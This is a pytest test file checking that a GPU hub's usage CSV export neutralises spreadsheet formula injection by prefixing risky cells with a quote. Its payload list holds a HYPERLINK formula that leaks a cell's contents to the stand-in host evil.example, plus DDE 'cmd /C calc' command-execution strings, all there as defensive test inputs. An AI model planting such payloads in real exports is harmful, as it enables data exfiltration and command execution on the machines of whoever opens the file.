"""Usage CSV cells cannot become spreadsheet formulas (issue 19, item 8a).

User names come from the IdP, server and profile names from users, team names and reasons
from admins: a cell beginning with ``= + - @`` (or tab/CR) is a formula to Excel and
LibreOffice. OWASP's advice, applied to every text cell: prefix it with ``'``.
"""

import csv
import io

import pytest

from gpuhub_spawner.usage import cli, history
from gpuhub_spawner.usage.history import CSV_FIELDS, Row, to_csv

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


@pytest.mark.parametrize("value", EVIL)
def test_a_formula_cell_is_quoted(value):
    assert history.csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["alice", "gpu-1", "", "a=b", "1", "2026-12-01T10:00:00.000Z"])
def test_plain_text_is_unchanged(value):
    assert history.csv_cell(value) == value


@pytest.mark.parametrize("value", [-1, -0.5, 3, 2.25, None])
def test_numbers_are_numbers(value):
    assert history.csv_cell(value) == value


def row(**kw) -> Row:
    base = dict(
        user="alice",
        server="",
        kind="server",
        team="vision",
        profile="gpu-1",
        flavor="a100",
        gpus=1,
        devices="0",
        requested=1000.0,
        start=1010.0,
        end=1100.0,
        end_reason="stopped",
        stopped_by="alice",
        measured_gpu_seconds=0.0,
        idle_gpu_seconds=0.0,
    )
    base.update(kw)
    return Row(**base)


def test_every_text_cell_of_the_usage_export_is_neutralised():
    text = {
        "user": EVIL[0],
        "server": EVIL[1],
        "kind": EVIL[2],
        "team": EVIL[3],
        "profile": EVIL[4],
        "flavor": EVIL[5],
        "devices": "-1",
        "end_reason": "@reason",
        "stopped_by": "=admin",
    }
    out = to_csv([row(**text)], now=2000.0)
    [line] = list(csv.DictReader(io.StringIO(out)))
    assert list(line) == CSV_FIELDS
    for key, value in text.items():
        assert line[key] == "'" + value, (key, line[key])
    # Numbers stay numbers; times are ISO text that cannot start a formula.
    assert line["gpus"] == "1" and line["gpu_seconds"] == "90.0" and line["start"].startswith("1970-01-01T")
    # An ordinary row keeps its cells; lines end in CRLF (RFC 4180).
    plain = to_csv([row()], now=2000.0)
    assert plain.endswith("\r\n") and plain.splitlines()[1].startswith("alice,,server,vision,gpu-1,a100,1,0,")


def test_a_carriage_return_inside_a_cell_does_not_start_a_row():
    """With a bare-LF terminator the csv module leaves a CR unquoted; readers split there."""
    out = to_csv([row(user="alice\r=1+1", end_reason="stopped\rcrashed")], now=2000.0)
    [line] = list(csv.DictReader(io.StringIO(out, newline="")))
    assert line["user"] == "alice\r=1+1" and line["end_reason"] == "stopped\rcrashed"


def test_the_cli_csv_neutralises_names(monkeypatch, capsys):
    totals = {
        '=HYPERLINK("http://evil.example")': {
            "gpu_hours": 1.5,
            "busy_gpu_hours": 0.5,
            "idle_gpu_hours": 1.0,
            "allocations": 2,
            "culls": 0,
        },
        "nlp": {"gpu_hours": 0.0, "busy_gpu_hours": 0.0, "idle_gpu_hours": 0.0, "allocations": 0, "culls": 0},
    }
    monkeypatch.setattr(cli, "api_base", lambda hub: "http://hub.invalid/hub/api")
    monkeypatch.setattr(cli, "call", lambda base, method, path: {"summary": {"totals": totals}})
    assert cli.main(["--csv", "--by", "user"]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    assert rows[0] == ["user", "gpu_hours", "busy_gpu_hours", "idle_gpu_hours", "allocations", "culls"]
    assert rows[1] == ['\'=HYPERLINK("http://evil.example")', "1.5", "0.5", "1.0", "2", "0"]
    assert rows[2] == ["nlp", "0.0", "0.0", "0.0", "0", "0"]
